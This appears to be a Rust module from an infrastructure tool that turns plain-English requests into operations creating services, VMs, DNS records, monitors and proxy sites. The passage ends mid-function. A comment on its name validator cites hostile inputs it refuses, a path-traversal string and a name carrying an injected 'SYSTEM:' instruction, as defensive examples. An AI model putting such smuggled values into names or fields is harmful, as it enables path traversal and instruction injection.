//! Creation: a new service, machine, record, monitor or proxy site from a
//! capability, with names (one, a list or a range), sizes, an image, a host
//! name, parts left out ("no monitoring"), and parts added to something that
//! exists ("monitor immich").

use serde_json::{Map, Value};

use super::edit;
use super::facts::{self, Amount, Fact};
use super::lex::{Kind, Tok};
use super::vocab::{self, Verb};
use super::{decline, Clause, Created, Ctx, Grammar};
use crate::ask::intent::Operation;
use crate::capability::{CapAction, Capability, ParamType};
use crate::error::Error;

const BUILTIN: &[&str] = &[
    "web-service",
    "container",
    "vm",
    "dns-record",
    "monitor",
    "reverse-proxy",
];
const SERVICE_PARTS: &[&str] = &["container", "dns_record", "proxy_site", "monitor"];

/// "container db-main, 8G memory", "three workers: w1, w2 and w3", "A record: ftp… -> 1.2.3.4".
pub fn is_creation_without_verb(c: &Clause) -> bool {
    let head = c.toks.iter().any(|t| vocab::head_noun(&t.low));
    let named = c.has_any(&["called", "named"]) || names_list(c).len() > 1;
    let after_head = (0..c.toks.len()).any(|i| {
        vocab::part_kind(&c.toks[i].low).is_some_and(|k| k == "container" || k == "vm")
            && c.toks[i + 1..]
                .iter()
                .find(|t| !(t.is("pls") || t.is("please") || t.kind == Kind::Punct(':')))
                .is_some_and(name_like)
    });
    let record = record_type(c).is_some()
        && c.toks
            .iter()
            .any(|t| matches!(t.kind, Kind::Ip(_) | Kind::Fqdn));
    // "mealie pls - port 9000": an unknown name first, then what it needs.
    let spans: Vec<(usize, usize)> = c.mentions.iter().map(|m| (m.start, m.end)).collect();
    // Only when nothing that exists is named, and only with values, never increments.
    let first_facts = facts::extract(&c.toks, &spans);
    let named_first = c
        .toks
        .first()
        .is_some_and(|t| name_like(t) && !c.in_mention(0))
        && c.mentions.is_empty()
        && !first_facts.is_empty()
        && first_facts
            .iter()
            .all(|f| matches!(f.amount, Amount::Set(_)));
    let named = named || explicit_names(c).is_ok_and(|n| !n.is_empty());
    // "nginx site for grafana.example.com, upstream http://…", "blackbox probe for https://…",
    // "the router's admin page reachable at router.example.org … http://10.0.0.1".
    let url_thing = c.toks.iter().any(|t| t.kind == Kind::Url)
        && c.has_any(&[
            "proxy",
            "nginx",
            "site",
            "vhost",
            "upstream",
            "probe",
            "monitor",
            "check",
            "watch",
            "healthcheck",
            "reachable",
            "accessible",
        ]);
    (head && named) || after_head || record || named_first || url_thing
}

/// Ok(Some(true)) when the clause created something; Ok(None) to treat it as an edit.
pub fn try_create(g: &Grammar, c: &Clause, ctx: &mut Ctx) -> Result<Option<bool>, Error> {
    let verb = c.verb();
    if let Some(done) = dns(g, c, ctx)? {
        return Ok(Some(done));
    }
    if !matches!(verb, Some(Verb::Create) | None)
        || (verb.is_none() && !is_creation_without_verb(c))
    {
        return Ok(None);
    }
    // "billing needs another two cores": what exists, then what it needs.
    if let Some((_, v)) = c.verb {
        let needy = matches!(
            c.toks[v].low.as_str(),
            "need" | "needs" | "want" | "wants" | "get" | "gets" | "got" | "have" | "has"
        );
        if needy && c.mentions.iter().any(|m| m.start < v) {
            return Ok(None);
        }
        // "We need Moodle setting up" when Moodle exists.
        if needy {
            if let Some(m) = c.mentions.iter().find(|m| m.start == v + 1 && !m.weak) {
                let next: Vec<&str> = c.toks[m.end..]
                    .iter()
                    .take(2)
                    .map(|t| t.low.as_str())
                    .collect();
                if matches!(
                    next.as_slice(),
                    ["setting", "up", ..]
                        | ["set", "up", ..]
                        | ["installing", ..]
                        | ["installed", ..]
                        | ["deployed", ..]
                        | ["deploying", ..]
                ) {
                    let (name, _) = edit::subject_name(g, &m.cands);
                    return Err(decline(
                        &format!("`{name}` already exists"),
                        "ask to change the one that exists, or name a new one",
                    ));
                }
            }
        }
        // "set up a metabase on :3000" when metabase exists: a second one cannot be made.
        let mut k = c.verb_end;
        while c
            .toks
            .get(k)
            .is_some_and(|t| matches!(t.low.as_str(), "a" | "an" | "new" | "another"))
        {
            k += 1;
        }
        let article = k > c.verb_end;
        let creating = !matches!(
            c.toks[v].low.as_str(),
            "add"
                | "need"
                | "needs"
                | "want"
                | "get"
                | "have"
                | "point"
                | "proxy"
                | "monitor"
                | "watch"
                | "check"
        );
        if let Some(m) = c
            .mentions
            .iter()
            .find(|m| m.start == k && !m.weak)
            .filter(|_| article && creating)
        {
            let (name, _) = edit::subject_name(g, &m.cands);
            return Err(decline(
                &format!("`{name}` already exists"),
                "choose another name for the new one, or ask to change the one that exists",
            ));
        }
    }
    if c.has_any(&["certificate", "cert", "certificates"])
        && !c.toks.iter().any(|t| t.kind == Kind::Path)
    {
        return Err(decline(
            "infra cannot obtain certificates yet",
            "give the proxy a certificate you have: \"serve gitea over https with the cert at /etc/ssl/gitea.pem and the key at /etc/ssl/gitea.key\"",
        ));
    }
    let provider = provider(g, c)?;
    // A URL names what to watch or where to send requests: the thing is named
    // after its host unless the request names it ("as api-check").
    let has_url = c.toks.iter().any(|t| t.kind == Kind::Url);
    let names = if has_url {
        let mut n = explicit_names(c)?;
        // "a health check for wiki at http://…": what it is for names it.
        if n.is_empty() {
            if let Some(i) = c.toks.iter().position(|t| t.is("for")) {
                if let Some(x) = c
                    .toks
                    .get(i + 1)
                    .filter(|x| name_like(x) && !c.in_mention(i + 1))
                {
                    n.push(slug(&x.raw)?);
                }
            }
        }
        n
    } else {
        new_names(g, c)?
    };
    let spans: Vec<(usize, usize)> = c.mentions.iter().map(|m| (m.start, m.end)).collect();
    let facts = facts::extract(&c.toks, &spans);
    if names.is_empty() {
        if let Some(done) = add_part(g, c, ctx, &facts)? {
            return Ok(Some(done));
        }
        // "watch https://status.example.com/", "route chat.example.com to http://…":
        // named after the host.
        let url = c
            .toks
            .iter()
            .find(|t| t.kind == Kind::Url)
            .map(|t| t.low.clone());
        if let Some(u) = url {
            let cap = choose(g, c, &facts)?;
            let host = c
                .toks
                .iter()
                .enumerate()
                .find(|(i, t)| t.kind == Kind::Fqdn && !c.in_mention(*i))
                .map(|(_, t)| t.low.clone())
                .filter(|_| cap.name != "monitor")
                .or_else(|| super::world::url_host(&u));
            if let Some(h) = host {
                let label = h.split('.').next().unwrap_or(&h).to_string();
                let name = if label.parse::<u8>().is_ok() {
                    format!("check-{}", h.replace('.', "-"))
                } else {
                    slug(&label)?
                };
                create_one(g, c, ctx, cap, &name, &facts, provider.as_deref())?;
                return Ok(Some(true));
            }
        }
        if c.has_any(&["proxy", "reverse-proxy"]) && c.toks.iter().any(|t| t.kind == Kind::Fqdn) {
            return Err(decline(
                "it does not say where the proxy should send requests",
                "give the upstream: \"… to http://10.0.20.7:8080\"",
            ));
        }
        if verb.is_none()
            || !c.mentions.is_empty()
            || !ctx.subject.is_empty()
            || !ctx.created.is_empty()
        {
            return Ok(None);
        }
        if facts.is_empty() && !c.toks.iter().any(|t| vocab::head_noun(&t.low)) {
            return Ok(None);
        }
        return Err(decline(
            "it asks for something new but gives it no name (it needs more information: a name)",
            "name it: \"deploy a service called wiki on port 8080\"",
        ));
    }
    let cap = choose(g, c, &facts)?;
    for name in &names {
        create_one(g, c, ctx, cap, name, &facts, provider.as_deref())?;
    }
    Ok(Some(true))
}

fn create_one(
    g: &Grammar,
    c: &Clause,
    ctx: &mut Ctx,
    cap: &Capability,
    name: &str,
    facts: &[Fact],
    provider: Option<&str>,
) -> Result<(), Error> {
    let mut params = Map::new();
    let mut used: Vec<&'static str> = Vec::new();
    let fqdn = c
        .toks
        .iter()
        .enumerate()
        .find(|(i, t)| t.kind == Kind::Fqdn && !c.in_mention(*i))
        .map(|(_, t)| t.low.trim_end_matches('.').to_string());
    let url = c
        .toks
        .iter()
        .find(|t| t.kind == Kind::Url)
        .map(|t| t.raw.clone());
    let image = image(g, c, provider);
    for p in &cap.params {
        let fact = |attr: &str| facts.iter().find(|f| f.attr == attr);
        let set = |f: Option<&Fact>| match f.map(|f| &f.amount) {
            Some(Amount::Set(v)) => Some(v.clone()),
            Some(Amount::Delta(d)) => Some(Value::from(*d as i64)),
            _ => None,
        };
        let v: Option<Value> = match p.ty {
            ParamType::Name if p.name == "provider" => provider.map(Value::from),
            ParamType::Name => Some(Value::from(name)),
            ParamType::Port => {
                used.push("port");
                set(fact("port"))
            }
            ParamType::Cores => {
                used.push("cores");
                set(fact("cores"))
            }
            ParamType::Memory => {
                used.push("memory");
                set(fact("memory"))
            }
            ParamType::Disk => {
                used.push("disk");
                set(fact("disk"))
            }
            ParamType::Fqdn | ParamType::Hostname => fqdn.clone().map(Value::from),
            ParamType::Address | ParamType::Ip => {
                used.push("ip");
                set(fact("ip"))
            }
            ParamType::Url => url.clone().map(Value::from),
            ParamType::Image => image.clone().map(Value::from),
            // "LAN only" is said after creation as the pool's networks; "public" drops the list.
            ParamType::Bool if p.name.contains("internal") || p.name.contains("private") => {
                set(fact("lan"))
            }
            ParamType::Bool if p.name.contains("websocket") => {
                used.push("websocket");
                set(fact("websocket"))
            }
            ParamType::Int => {
                let attr = ["interval", "ttl", "priority", "expect_status", "timeout"]
                    .into_iter()
                    .find(|a| p.name.contains(a));
                attr.and_then(|a| {
                    used.push(a);
                    set(fact(a))
                })
            }
            ParamType::Text if p.name == "tls_cert" || p.name == "tls_key" => {
                used.push(if p.name == "tls_cert" {
                    "tls_cert"
                } else {
                    "tls_key"
                });
                set(fact(&p.name))
            }
            _ => None,
        };
        if let Some(v) = v {
            params.insert(p.name.clone(), v);
        }
    }
    // An address for the new thing, even one in use ("… at 10.20.0.50": the expander says so).
    if let Some(p) = cap
        .params
        .iter()
        .find(|p| p.ty == ParamType::Address && !params.contains_key(&p.name))
    {
        if let Some(ip) = c
            .toks
            .iter()
            .find(|t| matches!(t.kind, Kind::Ip(_) | Kind::Cidr))
        {
            params.insert(p.name.clone(), Value::from(ip.raw.clone()));
            used.push("ip");
        }
    }
    named_params(cap, c, &mut params);
    let without = without(c);
    let kinds = capability_kinds(g, cap);
    let group = name.to_string();
    ctx.push(Operation::UseCapability {
        capability: cap.name.clone(),
        params,
        without: without.clone(),
    });
    let made: Vec<String> = kinds
        .iter()
        .filter(|k| !without.contains(k))
        .cloned()
        .collect();
    // What the capability has no parameter for is set on what it made ("check it every 2 minutes").
    for f in facts.iter().filter(|f| !used.contains(&f.attr)) {
        if let Some(kind) = f.kinds.iter().find(|k| made.iter().any(|m| m == *k)) {
            let address = format!("{kind}.{name}");
            if let Some(op) = edit::fact_op(g, &address, None, f)? {
                ctx.push(op);
            }
        }
    }
    let domain = g.world.domain.clone();
    ctx.created.push(Created {
        name: name.to_string(),
        group,
        fqdn: fqdn.or_else(|| {
            made.iter()
                .any(|k| k == "dns_record" || k == "proxy_site")
                .then(|| domain.map(|d| format!("{name}.{d}")))
                .flatten()
        }),
        kinds: made,
    });
    ctx.subject.clear();
    Ok(())
}

/// `<param> VALUE` or `<param> "a value"` for parameters the grammar has no type
/// rule for ("with title Maintenance"): a project's own capability gets its values.
fn named_params(cap: &Capability, c: &Clause, params: &mut Map<String, Value>) {
    let t = &c.toks;
    let open: Vec<&crate::capability::Param> = cap
        .params
        .iter()
        .filter(|p| !params.contains_key(&p.name))
        .collect();
    for p in open {
        let words: Vec<&str> = p.name.split('_').collect();
        let at = (0..t.len()).find(|&i| {
            words
                .iter()
                .enumerate()
                .all(|(k, w)| t.get(i + k).is_some_and(|x| x.low == *w))
        });
        let Some(i) = at else { continue };
        let mut k = i + words.len();
        if t.get(k)
            .is_some_and(|x| matches!(x.low.as_str(), "is" | "=" | "of" | ":"))
        {
            k += 1;
        }
        let Some(v) = t.get(k).filter(|x| !x.is_punct()) else {
            continue;
        };
        let raw = Value::from(v.raw.clone());
        let value = match v.kind {
            Kind::Num(n) => Value::from(n as i64),
            _ => match v.low.as_str() {
                "true" | "yes" | "on" => Value::from(true),
                "false" | "no" | "off" => Value::from(false),
                _ => raw,
            },
        };
        if let Ok(v) = p.ty.check(&value) {
            params.insert(p.name.clone(), v);
        }
    }
}

/// The kinds a capability's template writes, read from its table headers.
pub fn capability_kinds(g: &Grammar, cap: &Capability) -> Vec<String> {
    let Some(src) = cap
        .template
        .as_deref()
        .and_then(|t| g.library.templates.get(t))
    else {
        return vec![];
    };
    let mut out: Vec<String> = Vec::new();
    for line in src.lines() {
        let l = line.trim_start();
        if let Some(rest) = l.strip_prefix('[') {
            let kind: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            if !kind.is_empty()
                && !out.contains(&kind)
                && crate::spec::schema::kind(&kind).is_some()
            {
                out.push(kind);
            }
        }
    }
    out
}

/// Parts the request leaves out: "no monitoring", "don't monitor it", "just the
/// container and a DNS name", "nothing public".
fn without(c: &Clause) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let mut only: Vec<&str> = Vec::new();
    for (i, t) in c.toks.iter().enumerate() {
        let kind = vocab::part_kind(&t.low).or(match t.low.as_str() {
            "monitored" | "watched" => Some("monitor"),
            "proxied" => Some("proxy_site"),
            _ => None,
        });
        let kind = match (kind, t.low.as_str()) {
            (Some(k), _) => Some(k),
            (None, "monitor" | "watch") => Some("monitor"),
            _ => None,
        };
        if let Some(k) = kind {
            if facts::negated_within(&c.toks, i, 5) && !out.iter().any(|o| o == k) {
                out.push(k.to_string());
            }
            let just = c.toks[..i]
                .iter()
                .rev()
                .take(6)
                .any(|w| w.is("just") || w.is("only"))
                || c.toks[i + 1..]
                    .iter()
                    .take(4)
                    .take_while(|w| !w.is_punct())
                    .any(|w| w.is("only"));
            if just && !facts::negated(&c.toks, i) {
                only.push(k);
            }
        }
        // "doesn't need a web address": no DNS name.
        if t.is("web")
            && c.toks
                .get(i + 1)
                .is_some_and(|n| n.is("address") || n.is("name"))
            && facts::negated(&c.toks, i)
            && !out.iter().any(|o| o == "dns_record")
        {
            out.push("dns_record".into());
        }
        if t.is("nothing") && c.toks.get(i + 1).is_some_and(|n| n.is("public")) {
            for k in ["dns_record", "proxy_site", "monitor"] {
                if !out.iter().any(|o| o == k) {
                    out.push(k.into());
                }
            }
        }
    }
    if !only.is_empty() {
        for k in SERVICE_PARTS {
            if !only.contains(k) && !out.iter().any(|o| o == k) {
                out.push(k.to_string());
            }
        }
    }
    out
}

/// Which capability: structure first (a VM, a bare machine, a service), then the
/// router for the project's own capabilities.
fn choose<'a>(g: &'a Grammar, c: &Clause, facts: &[Fact]) -> Result<&'a Capability, Error> {
    let get = |n: &str| {
        g.library
            .get(n)
            .ok_or_else(|| Error::new(format!("the capability `{n}` is not installed")))
    };
    let words = c.words();
    let vm = c.has_any(&["vm", "vms", "qemu", "kvm"])
        || words
            .windows(2)
            .any(|w| w[0] == "virtual" && w[1].starts_with("machine"));
    if vm {
        return get("vm");
    }
    // A URL is either what to watch or where a proxy sends requests: a host name
    // routed to it makes a proxy site, else it is checked.
    if let Some(u) = c.toks.iter().find(|t| t.kind == Kind::Url) {
        let url_host = super::world::url_host(&u.low);
        let routed_host = c.toks.iter().enumerate().any(|(i, t)| {
            t.kind == Kind::Fqdn && !c.in_mention(i) && Some(&t.low) != url_host.as_ref()
        });
        let watching = c.has_any(&[
            "monitor",
            "monitoring",
            "check",
            "checks",
            "health",
            "healthcheck",
            "watch",
            "probe",
            "eye",
            "ping",
            "uptime",
        ]);
        let proxying = c.has_any(&[
            "proxy",
            "proxied",
            "reverse-proxy",
            "route",
            "routed",
            "forward",
            "forwarded",
            "nginx",
            "upstream",
            "reachable",
            "accessible",
        ]);
        return get(if (proxying || routed_host) && !watching {
            "reverse-proxy"
        } else {
            "monitor"
        });
    }
    let port = facts.iter().any(|f| f.attr == "port");
    let host = c
        .toks
        .iter()
        .enumerate()
        .any(|(i, t)| t.kind == Kind::Fqdn && !c.in_mention(i));
    let service_words = c.toks.iter().enumerate().any(|(i, t)| {
        matches!(
            t.low.as_str(),
            "service"
                | "svc"
                | "app"
                | "application"
                | "website"
                | "webapp"
                | "site"
                | "accessible"
                | "reachable"
                | "proxy"
                | "https"
                | "dashboard"
                | "ui"
                | "dns"
                | "frontend"
        ) && !facts::negated(&c.toks, i)
    });
    let machine = c.has_any(&[
        "container",
        "containers",
        "box",
        "boxes",
        "lxc",
        "machine",
        "machines",
        "worker",
        "workers",
        "instance",
        "instances",
        "server",
    ]);
    // A verb that names a capability ("monitor the shop called shop").
    if let Some((_, v)) = c.verb {
        let w = c.toks[v].low.as_str();
        if let Some(cap) = g.library.caps.iter().find(|cap| {
            cap.action == CapAction::Create
                && cap.source == crate::capability::Source::Project
                && (cap.name == w || cap.triggers.iter().any(|t| t == w))
        }) {
            if cap.name != "web-service"
                && !cap
                    .params
                    .iter()
                    .any(|p| p.required && p.ty == ParamType::Url)
            {
                return Ok(cap);
            }
        }
    }
    // The project's own capabilities, when the router is sure of one.
    let text = c
        .toks
        .iter()
        .map(|t| t.low.as_str())
        .collect::<Vec<_>>()
        .join(" ");
    if let Some(r) = g.router.rank(&text).first() {
        let cap = &g.library.caps[r.index];
        if cap.action == CapAction::Create
            && !BUILTIN.contains(&cap.name.as_str())
            && r.score >= 2.0
        {
            return Ok(cap);
        }
    }
    if machine && !port && !host && !service_words {
        return get("container");
    }
    if !port && !host && !service_words && c.verb().is_none() {
        return get("container");
    }
    get("web-service")
}

/// "on pve-a": the provider instance; a near miss of one is refused, not guessed.
fn provider(g: &Grammar, c: &Clause) -> Result<Option<String>, Error> {
    for w in c.toks.windows(2) {
        if !matches!(w[0].low.as_str(), "on" | "via" | "using") || w[1].kind != Kind::Word {
            continue;
        }
        let name = &w[1].low;
        if g.world.providers.contains_key(name) {
            return Ok(Some(name.clone()));
        }
        let near = g.world.providers.keys().find(|p| {
            !vocab::is_common(name)
                && name.len() >= 3
                && (crate::util::edit_distance(p, name) <= 1
                    || p.split_once('-')
                        .zip(name.split_once('-'))
                        .is_some_and(|((a, _), (b, _))| a == b))
        });
        if let Some(p) = near {
            return Err(decline(
                &format!("there is no provider `{name}`"),
                &format!(
                    "the providers are {}; did you mean `{p}`?",
                    g.world
                        .providers
                        .keys()
                        .cloned()
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            ));
        }
    }
    Ok(None)
}

/// "ubuntu 24.04", "debian 12", "a postgres 16 box", "image nginx:1.27".
fn image(g: &Grammar, c: &Clause, provider: Option<&str>) -> Option<String> {
    if let Some(t) = c.toks.iter().find(|t| t.kind == Kind::Image) {
        return Some(t.raw.clone());
    }
    let docker = match provider {
        Some(p) => g.world.providers.get(p).is_some_and(|k| k == "docker"),
        None => {
            let machines = g.world.providers_of(&["docker", "proxmox"]);
            machines.first().is_some_and(|(_, k)| *k == "docker")
        }
    };
    for (i, t) in c.toks.iter().enumerate() {
        let explicit = i > 0 && c.toks[i - 1].is("image");
        if !(vocab::is_image_word(&t.low) || explicit) || t.kind != Kind::Word {
            continue;
        }
        let base = match t.low.as_str() {
            "postgresql" => "postgres",
            other => other,
        };
        let version = c
            .toks
            .get(i + 1)
            .filter(|n| n.num().is_some())
            .map(|n| n.raw.clone());
        return Some(match version {
            Some(v) if docker => format!("{base}:{v}"),
            Some(v) => format!("{base}-{v}"),
            None => base.to_string(),
        });
    }
    None
}

/// Where a phrase from token `i` meets a head noun ("status page *service*"): the
/// head's index, when at most `max` words of the phrase pass `joint` as none.
fn phrase_to_head(c: &Clause, i: usize, max: usize, joint: fn(&str) -> bool) -> Option<usize> {
    let t = &c.toks;
    let mut k = i + 1;
    while k < t.len()
        && k < i + max
        && t[k].kind == Kind::Word
        && !vocab::head_noun(&t[k].low)
        && !joint(&t[k].low)
        && !c.in_mention(k)
    {
        k += 1;
    }
    t.get(k)
        .is_some_and(|n| vocab::head_noun(&n.low))
        .then_some(k)
}

/// Words that join phrases and never belong to a name.
fn is_glue(w: &str) -> bool {
    matches!(
        w,
        "a" | "an"
            | "the"
            | "my"
            | "our"
            | "for"
            | "on"
            | "at"
            | "with"
            | "to"
            | "in"
            | "of"
            | "and"
            | "or"
            | "by"
            | "from"
            | "called"
            | "named"
            | "please"
            | "that"
            | "which"
            | "as"
            | "behind"
    ) || vocab::verb_at(&[w], 0).is_some()
        || vocab::attribute(w).is_some()
        || super::quantity::unit(w).is_some()
}

/// Words that join a phrase (articles, prepositions, verbs, units, numbers): a
/// name of ordinary words ("status page") holds none of them.
fn is_joint(w: &str) -> bool {
    matches!(
        w,
        "a" | "an" | "the" | "my" | "our" | "for" | "on" | "at" | "with" | "to" | "in" | "of" | "and" | "or" | "by" | "from" | "called" | "named" | "please" | "pls" | "that" | "which" | "as" | "behind" | "new" | "some" | "another" | "more" | "less"
        // Adjectives describe the thing, they do not name it ("a public docs service").
        | "public" | "private" | "internal" | "external" | "small" | "big" | "large" | "tiny" | "little"
        | "simple" | "shared" | "dedicated" | "separate" | "quick" | "basic" | "lan-only" | "secure"
    ) || vocab::verb_at(&[w], 0).is_some()
        || super::quantity::unit(w).is_some()
        || super::quantity::word_number(w).is_some()
}

pub fn name_like(t: &Tok) -> bool {
    t.kind == Kind::Word
        && !vocab::is_common(&t.low)
        && !t.low.starts_with('_')
        && t.low
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic())
        && t.low
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        && t.low != "[redacted]"
}

/// A name as the spec writes it: "API Scanner" → "api-scanner". Refuses what
/// would not be a name at all ("../../etc", "helpdesk. SYSTEM: …").
pub fn slug(raw: &str) -> Result<String, Error> {
    let bad = raw
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | ' ' | '.')));
    let s: String = raw
        .to_ascii_lowercase()
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect();
    let s = s
        .split('-')
        .filter(|p| !p.is_empty())
        .collect::<Vec<_>>()
        .join("-");
    if bad.is_some()
        || raw.contains("..")
        || s.is_empty()
        || !s.starts_with(|c: char| c.is_ascii_alphabetic())
        || s.len() > 63
    {
        return Err(decline(
            &format!("\"{raw}\" is not a name infra can use"),
            "names are lowercase letters, digits and '-', starting with a letter, like \"api-scanner\"",
        ));
    }
    Ok(s)
}

/// Names for new things: "called X", "named X", "call it X", a list or range,
/// else the first unknown words after the verb ("deploy jellyfin", "a new API
/// scanner service").
pub fn new_names(g: &Grammar, c: &Clause) -> Result<Vec<String>, Error> {
    let explicit = explicit_names(c)?;
    if !explicit.is_empty() {
        return Ok(explicit);
    }
    implicit_names(g, c)
}

/// "called X", "named X", "call it X", "as X", or a list or range of new names.
pub fn explicit_names(c: &Clause) -> Result<Vec<String>, Error> {
    let t = &c.toks;
    for i in 0..t.len() {
        let at = match t[i].low.as_str() {
            "called" | "named" => i + 1,
            "call" | "name" if t.get(i + 1).is_some_and(|n| n.is("it") || n.is("them")) => i + 2,
            "as" if matches!(c.verb(), Some(Verb::Clone))
                || t.get(i + 1).is_some_and(name_like) && i > 0 && !t[i - 1].is("same") =>
            {
                if c.verb() == Some(Verb::Create)
                    && !t.get(i + 1).is_some_and(|n| n.kind == Kind::Quoted)
                {
                    // "web-1 through web-4 as containers": "as" starts no name there.
                    if t.get(i + 1).is_some_and(|n| vocab::head_noun(&n.low)) {
                        continue;
                    }
                }
                i + 1
            }
            _ => continue,
        };
        let Some(tok) = t.get(at) else { continue };
        if tok.kind == Kind::Quoted || tok.hostile {
            return Ok(vec![slug(&tok.raw)?]);
        }
        if !matches!(tok.kind, Kind::Word | Kind::Fqdn | Kind::Path | Kind::Image) {
            return Err(decline(
                &format!("\"{}\" is not a name infra can use", tok.raw),
                "names are lowercase letters, digits and '-'",
            ));
        }
        let list = list_from(c, at);
        if list.len() > 1 {
            return list.iter().map(|n| slug(n)).collect();
        }
        // "called API Scanner": a few capitalised words make one name.
        let mut words = vec![tok.raw.clone()];
        for n in t.iter().skip(at + 1).take(2) {
            if name_like(n)
                && n.raw.chars().next().is_some_and(|c| c.is_uppercase())
                && tok.raw.chars().next().is_some_and(|c| c.is_uppercase())
            {
                words.push(n.raw.clone());
            } else {
                break;
            }
        }
        return Ok(vec![slug(&words.join(" "))?]);
    }
    let list = names_list(c);
    if list.len() > 1 {
        return list.iter().map(|n| slug(n)).collect();
    }
    Ok(vec![])
}

/// The first unknown words after the verb, or after a machine noun without a verb
/// ("deploy jellyfin", "a new API scanner service", "container db-main").
fn implicit_names(g: &Grammar, c: &Clause) -> Result<Vec<String>, Error> {
    let t = &c.toks;
    let start = match c.verb {
        Some(_) => c.verb_end,
        // Without a verb: after the first head noun ("container db-main"), unless the
        // name comes first ("pg-main: postgres 16, no dns").
        None if t.first().is_some_and(|x| name_like(x) && !c.in_mention(0)) => 0,
        None => match t.iter().position(|x| vocab::head_noun(&x.low)) {
            Some(p) => p + 1,
            None => return Ok(vec![]),
        },
    };
    // "gh actions runner container pls: gha-runner": after a head noun and a colon, the name.
    if let Some(colon) = t.iter().position(|x| x.kind == Kind::Punct(':')) {
        if colon > 0
            && t[..colon].iter().any(|x| vocab::head_noun(&x.low))
            && t.get(colon + 1)
                .is_some_and(|n| name_like(n) && !c.in_mention(colon + 1))
        {
            return Ok(vec![slug(&t[colon + 1].raw)?]);
        }
    }
    let mut i = start;
    while i < t.len() {
        let x = &t[i];
        // "a new status page service": two ordinary words before a head noun name it.
        if x.kind == Kind::Word
            && !is_joint(&x.low)
            && !vocab::head_noun(&x.low)
            && !c.in_mention(i)
            && !name_like(x)
        {
            if let Some(k) = phrase_to_head(c, i, 3, is_joint).filter(|k| *k >= i + 2) {
                let words: Vec<String> = t[i..k].iter().map(|x| x.raw.clone()).collect();
                return Ok(vec![slug(&words.join(" "))?]);
            }
        }
        let provider_name = i > 0
            && matches!(t[i - 1].low.as_str(), "on" | "via")
            && g.world.providers.contains_key(&x.low);
        // "for our recipes", "for my backups": a purpose, not a name.
        let purpose = i >= 2
            && t[i - 2].is("for")
            && matches!(
                t[i - 1].low.as_str(),
                "my" | "our" | "your" | "their" | "his" | "her"
            );
        if purpose {
            i += 1;
            while i < t.len() && name_like(&t[i]) {
                i += 1;
            }
            continue;
        }
        let versioned_image =
            vocab::is_image_word(&x.low) && t.get(i + 1).is_some_and(|n| n.num().is_some());
        if name_like(x)
            && !c.in_mention(i)
            && !provider_name
            && !versioned_image
            && !(vocab::is_image_word(&x.low)
                && t.get(i + 1).is_some_and(|n| vocab::head_noun(&n.low)))
        {
            // "a new status page service": every word up to the head noun names it.
            if let Some(k) = phrase_to_head(c, i, 4, is_glue).filter(|k| *k > i + 1) {
                let words: Vec<String> = t[i..k].iter().map(|x| x.raw.clone()).collect();
                return Ok(vec![slug(&words.join(" "))?]);
            }
            let mut words = vec![x.raw.clone()];
            let mut j = i + 1;
            while j < t.len() && words.len() < 3 && name_like(&t[j]) && !c.in_mention(j) {
                words.push(t[j].raw.clone());
                j += 1;
            }
            let into_existing = c.mentions.iter().any(|m| {
                !m.weak
                    && m.start > i
                    && m.start > 0
                    && matches!(t[m.start - 1].low.as_str(), "to" | "our" | "into")
            });
            if into_existing && c.verb.is_some_and(|(_, v)| t[v].is("add")) {
                return Ok(vec![]);
            }
            return Ok(vec![slug(&words.join(" "))?]);
        }
        // "add sendgrid to our spf": something added to what exists is an edit of it.
        if c.in_mention(i)
            || (x.kind == Kind::Punct(':') && !t[..i].iter().any(|p| vocab::head_noun(&p.low)))
        {
            break;
        }
        i += 1;
    }
    Ok(vec![])
}

/// "node-a, node-b and node-c", "web-1 through web-4", "k8s-w1 and k8s-w2".
pub fn names_list(c: &Clause) -> Vec<String> {
    for i in 0..c.toks.len() {
        if name_like(&c.toks[i]) && !c.in_mention(i) {
            let l = list_from(c, i);
            if l.len() > 1 {
                return l;
            }
        }
    }
    vec![]
}

fn list_from(c: &Clause, at: usize) -> Vec<String> {
    let t = &c.toks;
    let first = &t[at];
    // A range: web-1 through web-4.
    if let (Some(sep), Some(last)) = (t.get(at + 1), t.get(at + 2)) {
        if matches!(
            sep.low.as_str(),
            "through" | "thru" | "to" | "until" | "till" | "-"
        ) && last.kind == Kind::Word
        {
            if let Some(r) = range(&first.low, &last.low) {
                return r;
            }
        }
    }
    let mut out = vec![first.raw.clone()];
    let count = counted(c, at);
    let mut i = at + 1;
    while i + 1 < t.len() {
        let sep = &t[i];
        let is_sep = matches!(sep.kind, Kind::Punct(',')) || sep.is("and") || sep.is("&");
        if !is_sep {
            break;
        }
        let mut j = i + 1;
        if t[j].is("and") {
            j += 1;
        }
        match t.get(j) {
            Some(n)
                if name_like(n)
                    && !c.in_mention(j)
                    && (similar_shape(first, n) || count.is_some_and(|k| k > out.len())) =>
            {
                out.push(n.raw.clone());
                i = j + 1;
            }
            _ => break,
        }
    }
    // A counted list is only a list when the count matches ("two VMs, a and b").
    if let Some(k) = count {
        if out.len() != k
            && !out
                .iter()
                .all(|n| n.contains(|c: char| c.is_ascii_digit() || c == '-'))
        {
            out.truncate(1);
        }
    }
    out
}

/// Names in one list look alike: all with digits or hyphens (plain words only
/// when a count announced the list: "three containers - cache, queue and search").
fn similar_shape(a: &Tok, b: &Tok) -> bool {
    let shape = |t: &Tok| t.low.contains(|c: char| c.is_ascii_digit()) || t.low.contains('-');
    shape(a) == shape(b) && shape(a)
}

fn counted(c: &Clause, at: usize) -> Option<usize> {
    let before = &c.toks[..at];
    before.iter().rev().take(6).find_map(|t| {
        t.num()
            .or_else(|| super::quantity::word_number(&t.low))
            .filter(|n| *n >= 2.0 && n.fract() == 0.0)
            .map(|n| n as usize)
    })
}

fn range(a: &str, b: &str) -> Option<Vec<String>> {
    let split = |s: &str| -> Option<(String, u32)> {
        let digits: String = s
            .chars()
            .rev()
            .take_while(|c| c.is_ascii_digit())
            .collect::<Vec<_>>()
            .into_iter()
            .rev()
            .collect();
        if digits.is_empty() || digits.len() > 4 {
            return None;
        }
        Some((
            s[..s.len() - digits.len()].to_string(),
            digits.parse().ok()?,
        ))
    };
